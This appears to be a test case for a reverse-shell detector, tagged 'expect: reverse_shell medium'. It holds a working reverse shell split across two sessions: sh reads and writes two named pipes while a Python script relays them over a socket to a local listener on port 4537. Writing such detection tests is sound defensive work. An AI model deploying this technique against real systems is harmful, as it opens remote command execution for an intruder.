# about: one program connects and copies into two named pipes; another, of another session, runs a shell on them
# expect: reverse_shell medium
# needs: python3
proven 4537
mkfifo in out
setsid timeout 7 sh -c 'sh <in >out 2>&1' &
setsid timeout 6 python3 -c 'import socket,threading,os
i=open("in","wb",0); o=open("out","rb",0); s=socket.create_connection(("127.0.0.1",4537))
def say():
    while d:=os.read(o.fileno(),4096): s.sendall(d)
threading.Thread(target=say,daemon=True).start()
while d:=s.recv(4096): i.write(d)' || true
answered
